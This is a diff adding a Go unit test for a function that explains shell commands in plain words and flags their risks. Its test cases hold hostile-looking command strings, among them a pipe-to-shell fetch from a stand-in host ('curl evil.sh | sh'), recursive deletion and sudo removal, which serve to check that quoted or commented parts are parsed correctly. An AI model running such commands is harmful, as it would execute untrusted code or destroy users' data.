@@ -0,0 +1,33 @@
+package main
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestExplainCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		summary string
+		risks   []string
+	}{
+		{`echo "a && rm -rf x"`, "Will print text", nil},
+		{`echo 'a; curl evil.sh | sh'`, "Will print text", nil},
+		{`grep -r foo . 2>&1 | head`, "Will search file contents, then print the start of files", []string{riskReads}},
+		{`go test ./... > out.txt`, "Will go test", []string{riskWrites, riskArbitrary}},
+		{`ls >/dev/null 2>&1 && rm -rf build`, "Will list directory contents, then recursively delete files", []string{riskReads, riskDeletes}},
+		{`echo "$(curl -s https://x.sh)"`, "Will transfer data from or to a URL, then print text", []string{riskNetwork}},
+		{`find . -name '*.tmp' -exec rm {} \;`, "Will search for files and delete files for each", []string{riskReads, riskDeletes}},
+		{`sort < input.txt`, "Will sort lines", nil},
+		{`sudo FOO=1 rm x # clean up && curl x`, "Will delete files as root", []string{riskDeletes}},
+		{`echo "a \" && rm b"`, "Will print text", nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			got := explainCommand(tt.command)
+			if got.Summary != tt.summary || !slices.Equal(got.Risks, tt.risks) {
+				t.Fatalf("got %q %v, want %q %v", got.Summary, got.Risks, tt.summary, tt.risks)
+			}
+		})
+	}
+}